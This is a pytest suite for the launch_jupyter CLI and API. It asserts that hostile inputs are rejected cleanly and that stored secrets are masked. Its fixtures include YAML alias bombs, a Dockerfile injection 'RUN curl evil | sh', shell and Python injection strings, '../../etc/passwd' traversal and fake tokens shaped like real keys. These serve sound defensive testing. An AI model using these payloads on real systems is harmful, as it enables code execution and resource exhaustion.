"""Hostile input: each case is one line on stderr, exit status 2, and nothing stored.

The corpus grows the pattern of tests/test_cli.py's BAD_INPUT: files are written per case from
the FILES table (``@NAME`` in an argument is replaced by its path)."""

from __future__ import annotations

import json
import sqlite3

import pytest

from launch_jupyter import api
from launch_jupyter.cli import main
from launch_jupyter.core.errors import ConfigError, LaunchError, ParameterError, QueueError
from launch_jupyter.core.queue_config import load_yaml
from tests.fixtures.common import EXAMPLES

NB = str(EXAMPLES / "quickstart.ipynb")
GH = "ghp_" + "x1Y2z3" * 6  # a token of GitHub's documented shape
PEM_HEADER = "-----BEGIN " + "PRIVATE KEY-----"


def _bomb(levels: int = 9) -> str:
    """The "billion laughs": each level lists the previous one nine times."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def _flow_bomb(levels: int = 9) -> str:
    parts = ['&a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    parts += [f"&a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "[" + ", ".join(parts) + "]"


FILES: dict[str, bytes] = {
    "@NONUTF8": b"timeout: 60\nenv:\n  A: caf\xe9 \xff\n",
    "@UTF16": "timeout: 60\n".encode("utf-16"),
    "@BOMB": _bomb().encode(),
    "@DEEPYAML": ("a:\n" + "".join("  " * i + "b:\n" for i in range(1, 120)) + "  " * 120 + "c: 1\n").encode(),
    "@DEEPFLOW": ("x: " + "[" * 500 + "]" * 500 + "\n").encode(),
    "@DEEPJSON": ("{" + '"a": {' * 3000 + "}" * 3001).encode(),
    "@LOOP": b"x: &x [1, *x]\n",
    "@MANYALIASES": ("base: &b 1\nitems: [" + ", ".join(["*b"] * 1500) + "]\n").encode(),
    "@TOPLIST": b"- a\n- b\n",
    "@TOPSCALAR": b"just text\n",
    "@DUPKEY": b"timeout: 1\ntimeout: 2\n",
    "@UNKNOWNKEY": b"timeoutt: 60\n",
    "@CAMEL": b"envVars: {}\n",
    "@TABS": b"env:\n\tA: 1\n",
    "@WANDB": b"env:\n  WANDB_API_KEY: 0123456789abcdef0123456789abcdef01234567\n",
    "@GHTOKEN": f"env:\n  GH: {GH}\n".encode(),
    "@PASSWORD": b"env:\n  DB_PASSWORD: hunter2hunter2\n",
    "@APIKEY": b"env:\n  OPENAI_API_KEY: not-a-reference-value\n",
    "@AWSKEY": b"env:\n  AWS_ACCESS_KEY_ID: AKIAABCDEFGHIJKLMNOP\n",
    "@PEMVALUE": f'env:\n  KEY: "{PEM_HEADER}\\nMIIB"\n'.encode(),
    "@SLACK": b"env:\n  HOOK: xoxb-123456789012-abcdefghijkl\n",
    "@TOKENINLIST": f'env:\n  ARGS: ["--token", "{GH}"]\n'.encode(),
    "@BASENEWLINE": b'builder:\n  base_image: "python:3.11\\nRUN curl evil | sh"\n',
    "@BASESPACE": b"builder:\n  base_image: python 3.11\n",
    "@BASEUPPER": b"builder:\n  base_image: Evil/Image:1\n",
    "@KANIKONEWLINE": b'builder:\n  kaniko_image: "gcr.io/kaniko\\n--evil"\n',
    "@BUILDERUNKNOWN": b"builder:\n  netwrok: host\n",
    # values the agent's own launch-config.yaml refuses are refused in a queue's builder section too
    "@BUILDERTYPE": b"builder:\n  type: dockr\n",
    "@BUILDERTAG": b"builder:\n  destination: us-docker.pkg.dev/p/r/img:latest\n",
    "@BUILDERNET": b"builder:\n  network: 5\n",
    "@BUILDERGCS": b"builder:\n  build_context_store: s3://bucket/contexts\n",
    "@AGENT_NONUTF8": b"max_jobs: 2\nentity: caf\xe9\xff\n",
    "@AGENT_BOMB": _bomb().encode(),
    "@AGENT_UNKNOWN": b"max_jobz: 2\n",
    "@AGENT_MAXJOBS": b"max_jobs: lots\n",
    "@AGENT_DEEP": ("data_dir:\n" + "".join("  " * i + "b:\n" for i in range(1, 100)) + "  " * 100 + "c: 1\n").encode(),
    "@NOTNB": b"this is not json",
    "@OLDNB": json.dumps({"worksheets": [], "nbformat": 3}).encode(),
}
Q = ["queue", "create", "hq", "--resource", "local-process", "--config"]
S = ["submit", NB, "-q", "q"]

CASES: list[tuple[list[str], str]] = [
    # names and entities
    (["queue", "create", "", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", " ", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "q\n", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "q\t", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "q\r\nx", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "a b", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "q;rm -rf", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "../q", "--resource", "local-process"], "bad entity"),
    (["queue", "create", "..", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "a/b/c", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "ü", "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "q" * 65, "--resource", "local-process"], "bad queue name"),
    (["queue", "create", "ok", "--resource", "local-process", "--entity", "a/b"], "bad entity"),
    (["queue", "create", "ok", "--resource", "local-process", "--entity", "a b"], "bad entity"),
    (["queue", "create", "ok", "--resource", "local-process", "--entity", "team\n"], "bad entity"),
    (["queue", "create", "ok", "--resource", "local-process", "--entity", ""], "bad entity"),
    (["queue", "create", "ok", "--resource", "local-process", "--entity", "e" * 65], "bad entity"),
    (["queue", "create", "ok", "--resource", "local\nprocess"], "unknown resource"),
    # queue config files: encodings, size, structure
    ([*Q, "@NONUTF8"], "not UTF-8"),
    ([*Q, "@UTF16"], "not UTF-8"),
    ([*Q, "@BOMB"], "expands to more than"),
    ([*Q, "@DEEPYAML"], "nested deeper than"),
    ([*Q, "@DEEPFLOW"], "nested deeper than"),
    ([*Q, "@DEEPJSON"], "nested deeper than"),
    ([*Q, "@LOOP"], "a loop"),
    ([*Q, "@MANYALIASES"], "aliases"),
    ([*Q, "@TOPLIST"], "top level must be a mapping"),
    ([*Q, "@TOPSCALAR"], "top level must be a mapping"),
    ([*Q, "@DUPKEY"], "twice"),
    ([*Q, "@UNKNOWNKEY"], "timeoutt"),
    ([*Q, "@CAMEL"], "envVars"),
    ([*Q, "@TABS"], "line"),
    ([*Q, "/no/such/config.yaml"], "--config"),
    ([*Q, "/tmp"], "--config"),
    # credentials in a queue config
    ([*Q, "@WANDB"], "env.WANDB_API_KEY: looks like a credential"),
    ([*Q, "@GHTOKEN"], "env.GH: looks like a credential (GitHub token)"),
    ([*Q, "@PASSWORD"], "env.DB_PASSWORD: holds a literal value under a credential's name"),
    ([*Q, "@APIKEY"], "env.OPENAI_API_KEY"),
    ([*Q, "@AWSKEY"], "AWS access key id"),
    ([*Q, "@PEMVALUE"], "PEM private key"),
    ([*Q, "@SLACK"], "Slack token"),
    ([*Q, "@TOKENINLIST"], "env.ARGS[1]: looks like a credential"),
    # images that would add Dockerfile lines or build steps
    ([*Q, "@BASENEWLINE"], "builder.base_image"),
    ([*Q, "@BASESPACE"], "builder.base_image"),
    ([*Q, "@BASEUPPER"], "builder.base_image"),
    ([*Q, "@KANIKONEWLINE"], "builder.kaniko_image"),
    ([*Q, "@BUILDERUNKNOWN"], "builder.netwrok"),
    (
        [*Q, "@BUILDERTYPE"],
        "builder.type: must be one of docker | kaniko | kaniko-kubernetes | noop, got 'dockr' (did you mean \"docker\"?)",
    ),
    ([*Q, "@BUILDERTAG"], "builder.destination: 'us-docker.pkg.dev/p/r/img:latest' carries a tag"),
    ([*Q, "@BUILDERNET"], "builder.network: must be text"),
    ([*Q, "@BUILDERGCS"], "builder.build_context_store: 's3://bucket/contexts' must be a gs:// URI"),
    # notebook parameters: identifiers, not keywords; values bounded
    ([*S, "-p", "import=1"], "keyword"),
    ([*S, "-p", "class", "1"], "keyword"),
    ([*S, "-p", "None=1"], "keyword"),
    ([*S, "-p", "1x=2"], "not a Python identifier"),
    ([*S, "-p", "a-b=1"], "not a Python identifier"),
    ([*S, "-p", "a.b=1"], "not a Python identifier"),
    ([*S, "-p", "__import__('os')=1"], "-p"),
    ([*S, "-p", "import=1", "--new-parameter", "import"], "keyword"),
    ([*S, "-p", "name=1", "--new-parameter", "def"], "keyword"),
    ([*S, "-p", "name=1", "--new-parameter", "x;y"], "not a Python identifier"),
    ([*S, "-p", "name=" + "[" * 3000 + "]" * 3000], "nested deeper than"),
    ([*S, "-p", "name=" + "{a: " * 100 + "1" + "}" * 100], "nested deeper than"),
    ([*S, "-p", "name=" + _flow_bomb()], "expands to more than"),
    ([*S, "-p", "name=[&x [1, *x]]"], "a loop"),
    ([*S, "-p", "name={a: [1, 2}"], "-p"),
    ([*S, "-p", "n=lots"], "n"),
    # per-run overrides: never the builder's settings but the base image
    ([*S, "--resource-arg", "builder.kaniko_image=evil/kaniko:1"], "builder.kaniko_image: is the queue's to set"),
    ([*S, "--resource-arg", "builder.network=host"], "builder.network: is the queue's to set"),
    ([*S, "--resource-arg", "builder.destination=evil.example.com/x"], "builder.destination"),
    ([*S, "--resource-arg", "builder.type=docker"], "builder.type"),
    ([*S, "--resource-arg", "builder=1"], "builder"),
    ([*S, "--resource-arg", "builder.base_image=python:3.11\nRUN x"], "builder.base_image"),
    ([*S, "--resource-arg", "builder.base_image=a b"], "builder.base_image"),
    ([*S, "--resource-arg", f"env.GH={GH}"], "env.GH: looks like a credential"),
    ([*S, "--resource-arg", "env.API_TOKEN=abcdefghijkl"], "env.API_TOKEN"),
    ([*S, "--resource-arg", "env=" + "{a: " * 100 + "1" + "}" * 100], "nested deeper than"),
    ([*S, "--resource-arg", "env=" + _flow_bomb()], "expands to more than"),
    ([*S, "--resource-arg", "timeout=[&x [*x]]"], "a loop"),
    ([*S, "--resource-arg", "=1"], "--resource-arg"),
    ([*S, "--resource-arg", "a..b=1"], "--resource-arg"),
    ([*S, "--resource-arg", "timeout[0=1"], "--resource-arg"),
    ([*S, "--set-var", "x=1"], "x"),
    ([*S, "--image", "evil image"], "image"),
    # notebooks
    (["submit", "@NOTNB", "-q", "q"], "is not a notebook"),
    (["submit", "@OLDNB", "-q", "q"], "not a notebook"),
    (["submit", "/no/such.ipynb", "-q", "q"], "notebook not found"),
    # listing and reading runs
    (["runs", "--limit", "-1"], "limit"),
    (["runs", "--limit", "0"], "limit"),
    (["runs", "--limit", "many"], "--limit"),
    (["runs", "--state", "sleeping"], "unknown state"),
    (["runs", "--queue", "no-such"], "does not exist"),
    (["run", "show", "../../etc/passwd"], "../../etc/passwd"),
    (["cancel", "../x"], "../x"),
    (["logs", "../../x"], "../../x"),
    # stores
    (["--store", "postgresql://u@127.0.0.1:abc/db", "runs"], "not a database URL"),
    (["--store", "postgresql://u:pw@127.0.0.1:99999999/db", "runs"], "store"),
    (["--store", "mysql://u@h/db", "runs"], "only sqlite:/// and postgresql://"),
    (["--store", "not a url", "runs"], "not a database URL"),
    # agents
    (["agent", "-q", "q", "--until-idle", "--log-file", "/tmp"], "--log-file /tmp"),
    (["agent", "-q", "q", "--until-idle", "--log-file", "/no/such/dir/agent.log"], "--log-file"),
    (["agent", "-q", "missing", "--until-idle"], "does not exist"),
    (["agent", "-q", "q", "--until-idle", "--max-jobs", "0"], "max_jobs"),
    (["agent", "-q", "q", "--until-idle", "--max-jobs", "two"], "--max-jobs"),
    (["agent", "-q", "q", "--until-idle", "--poll-interval", "soon"], "--poll-interval"),
    # agent config files
    (["-c", "@AGENT_NONUTF8", "runs"], "@AGENT_NONUTF8"),
    (["-c", "@AGENT_BOMB", "runs"], "expands to more than"),
    (["-c", "@AGENT_UNKNOWN", "runs"], "max_jobz"),
    (["-c", "@AGENT_MAXJOBS", "runs"], "max_jobs"),
    (["-c", "@AGENT_DEEP", "runs"], "nested deeper than"),
    (["-c", "/no/such/launch-config.yaml", "runs"], "does not exist"),
    (["-c", "/tmp", "runs"], "is a folder"),
    # tag-parameters
    (["tag-parameters", "/no/such.ipynb"], "/no/such.ipynb"),
    (["tag-parameters", "@NOTNB"], "not a readable notebook"),
    (["tag-parameters", NB, "--cell", "999"], "999"),
]


def snapshot():
    queues = [(q.path, q.config, q.prioritization, [v.to_dict() for v in q.template_vars]) for q in api.list_queues()]
    runs = [(r.id, r.state) for r in api.list_runs()]
    return queues, runs


def _argv(argv: list[str], expected: str, tmp_path) -> tuple[list[str], str]:
    for marker, data in FILES.items():
        if marker in argv or marker == expected:
            path = tmp_path / (marker[1:].lower() + (".ipynb" if marker.endswith("NB") else ".yaml"))
            path.write_bytes(data)
            argv = [str(path) if a == marker else a for a in argv]
            expected = str(path) if expected == marker else expected
    return argv, expected


def test_the_corpus_has_at_least_a_hundred_cases():
    assert len(CASES) >= 100
    assert len({tuple(argv) for argv, _ in CASES}) == len(CASES)


@pytest.mark.parametrize(
    ("argv", "expected"), CASES, ids=[" ".join(a[2:] if a[0] == "submit" else a)[:70] for a, _ in CASES]
)
def test_hostile_input_is_one_line_exit_2_and_stores_nothing(capsys, tmp_path, argv, expected):
    api.create_queue("q", "local-process")
    argv, expected = _argv(argv, expected, tmp_path)
    before = snapshot()
    capsys.readouterr()
    settings = dict(api._settings)  # main() configures --store/-c process-wide; compare with the test's store
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse's own usage errors
        code = exc.code
    finally:
        api._settings.update(settings)
    _, err = capsys.readouterr()
    assert code == 2, err
    assert len(err.strip().splitlines()) == 1, err
    assert "Traceback" not in err and expected in err, err
    assert snapshot() == before


def test_an_alias_bomb_is_refused_before_any_object_is_built():
    with pytest.raises(ConfigError, match="expands to more than 100000 values"):
        load_yaml(_bomb(12))  # 9**12 strings if built
    assert load_yaml("base: &b {x: 1}\nuse: *b\n") == {"base": {"x": 1}, "use": {"x": 1}}  # aliases still work


# ---------------------------------------------------------------- the same through the API


@pytest.mark.parametrize(
    "parameters",
    [
        {"import": 1},
        {"class": 1},
        {"a b": 1},
        {"__import__('os').system('id')": 1},
        {"x\ny": 1},
        {"": 1},
        {"1x": 1},
        {"ünï": 1},
    ],
)
def test_api_submit_refuses_parameter_names_that_are_not_identifiers(parameters):
    api.create_queue("q", "local-process")
    before = snapshot()
    with pytest.raises(ParameterError, match="parameter"):
        api.submit(NB, "q", parameters=parameters, new_parameters=list(parameters))
    assert snapshot() == before


@pytest.mark.parametrize(
    ("kwargs", "error", "match"),
    [
        ({"name": "q\n"}, QueueError, "bad queue name"),
        ({"name": "ok", "entity": "a/b"}, QueueError, "bad entity"),
        (
            {"name": "ok", "config": {"env": {"WANDB_API_KEY": "0123456789abcdef" * 2 + "01234567"}}},
            ConfigError,
            "credential",
        ),
        (
            {"name": "ok", "config": {"builder": {"base_image": "python:3.11\nRUN id"}}},
            ConfigError,
            "builder.base_image",
        ),
        ({"name": "ok", "config": _bomb()}, ConfigError, "expands to more than"),
    ],
)
def test_api_create_queue_refuses_the_same(kwargs, error, match):
    before = snapshot()
    with pytest.raises(error, match=match):
        api.create_queue(resource="local-process", **kwargs)
    assert snapshot() == before


def test_a_reference_to_a_secret_is_fine_where_the_literal_is_not():
    queue = api.create_queue("ok", "local-process", config={"env": {"API_TOKEN": "${run_id}", "PASSWORD": ""}})
    assert queue.config["env"]["PASSWORD"] == ""


def test_run_show_masks_what_it_could_not_refuse(capsys, isolated_home):
    api.create_queue("q", "local-process")
    run = api.submit(NB, "q")
    config = {"env": {"WANDB_API_KEY": "0123456789abcdef" * 2 + "01234567", "GH": GH, "MODE": "fast"}}
    with sqlite3.connect(isolated_home / "data" / "launch_jupyter" / "launch.db") as conn:
        conn.execute(
            "UPDATE runs SET config = ?, message = ? WHERE id = ?", (json.dumps(config), f"printed {GH}", run.id)
        )
    assert main(["run", "show", run.id, "--json"]) == 0
    out = capsys.readouterr().out
    shown = json.loads(out)
    assert shown["config"]["env"] == {"WANDB_API_KEY": "****", "GH": "****", "MODE": "fast"}
    assert GH not in out and "0123456789abcdef01" not in out
    assert main(["run", "show", run.id]) == 0
    assert GH not in capsys.readouterr().out


def test_hostile_input_never_raises_anything_but_a_launch_error():
    for text in (_bomb(), "[" * 10000, "{" * 10000, "a: " + "[" * 100 + "]" * 100):
        with pytest.raises(LaunchError):
            load_yaml(text)
